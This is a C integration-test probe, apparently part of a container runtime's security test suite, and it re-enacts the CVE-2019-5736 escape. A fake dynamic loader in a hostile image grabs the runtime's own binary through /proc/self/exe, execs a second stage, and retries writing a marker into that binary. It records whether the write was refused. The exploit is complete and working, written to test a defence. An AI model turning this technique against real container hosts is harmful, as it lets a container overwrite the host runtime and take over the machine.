/* tests/integration/probes/exe_attack.c — the CVE-2019-5736 attack, for real.
 *
 * A hostile image carries this one static program twice:
 *
 *   /lib64/ld-linux-x86-64.so.2   the "dynamic loader" the kernel starts for
 *                                 any dynamically linked program run in the
 *                                 container, skiff's own binary included;
 *   /attacker                     the second stage.
 *
 * The image's command is a script "#!/proc/self/exe": the kernel runs again
 * the file the exec'ing process runs, which is skiff's, and starts it with
 * the image's loader, that is, this program, with /proc/self/exe naming
 * skiff's binary. Stage one keeps an O_PATH descriptor of it (fd 3) and
 * execs stage two, which tries to open that file for writing until it
 * stops being busy (ETXTBSY while any process runs it) and, if it can,
 * appends a few bytes to it. The outcome goes to /out/result:
 * "wrote", or "refused <errno>".
 *
 * No C library: the kernel starts an interpreter with the main program's
 * stack and auxiliary vector, which a libc's start-up code would misread.
 * Lesson: 11-security. Built -static -nostdlib.
 */
typedef unsigned long u64;

/* One writable word, so that the last segment the kernel maps is writable.
 * Before Linux 6.7, loading an interpreter zeroes the rest of the page after
 * its last segment, and a read-only one makes execve fail with EFAULT: on
 * Debian 12's 6.1 the attack died there, before it could try anything
 * (found in the micro-VM, tests/vm). */
volatile long probe_runs = 1;

static long sys(long n, long a, long b, long c, long d) {
  long ret;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return ret;
}

enum { SYS_write = 1, SYS_open = 2, SYS_close = 3, SYS_nanosleep = 35, SYS_execve = 59,
       SYS_exit = 60 };
enum { O_WRONLY = 01, O_CREAT = 0100, O_TRUNC = 01000, O_APPEND = 02000, O_PATH = 010000000 };
enum { ETXTBSY = 26 };

static u64 len(const char* s) {
  u64 n = 0;
  while (s[n]) ++n;
  return n;
}

static void report(const char* what, long err) {
  char text[64];
  u64 n = 0;
  for (const char* p = what; *p; ++p) text[n++] = *p;
  if (err) {
    char digits[20];
    int k = 0;
    text[n++] = ' ';
    for (long v = err; v > 0; v /= 10) digits[k++] = (char)('0' + v % 10);
    while (k) text[n++] = digits[--k];
  }
  text[n++] = '\n';
  long fd = sys(SYS_open, (long)"/out/result", O_WRONLY | O_CREAT | O_TRUNC, 0644, 0);
  if (fd >= 0) {
    sys(SYS_write, fd, (long)text, (long)n, 0);
    sys(SYS_close, fd, 0, 0, 0);
  }
}

static void stage_two(void) {
  /* Up to 10 s: the binary stays busy while a skiff process runs it. */
  for (int i = 0; i < 500; ++i) {
    long fd = sys(SYS_open, (long)"/proc/self/fd/3", O_WRONLY | O_APPEND, 0, 0);
    if (fd >= 0) {  /* a sealed memfd opens, but refuses the write */
      const char* mark = "owned by the container\n";
      long n = sys(SYS_write, fd, (long)mark, (long)len(mark), 0);
      report(n > 0 ? "wrote" : "refused", n > 0 ? 0 : -n);
      return;
    }
    if (fd != -ETXTBSY) {
      report("refused", -fd);
      return;
    }
    long pause[2] = {0, 20 * 1000 * 1000};
    sys(SYS_nanosleep, (long)pause, 0, 0, 0);
  }
  report("refused", ETXTBSY);
}

static void stage_one(void) {
  long fd = sys(SYS_open, (long)"/proc/self/exe", O_PATH, 0, 0); /* fd 3: no O_CLOEXEC */
  if (fd != 3) {
    report("no exe", fd < 0 ? -fd : 0);
    return;
  }
  char* argv[] = {"attacker", 0};
  char* envp[] = {0};
  sys(SYS_execve, (long)"/attacker", (long)argv, (long)envp, 0);
  report("no stage two", 0);
}

void start(long* stack) {
  probe_runs = 2;
  char** argv = (char**)(stack + 1);
  const char* name = argv[0];
  int second = 0;
  for (const char* p = name; *p; ++p)
    if (p[0] == 'a' && p[1] == 't' && p[2] == 't') second = 1; /* "attacker" */
  if (second)
    stage_two();
  else
    stage_one();
  sys(SYS_exit, 0, 0, 0, 0);
}

/* The entry point: the stack pointer holds argc, then argv. */
__asm__(".global _start\n_start:\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call start\n  hlt\n");
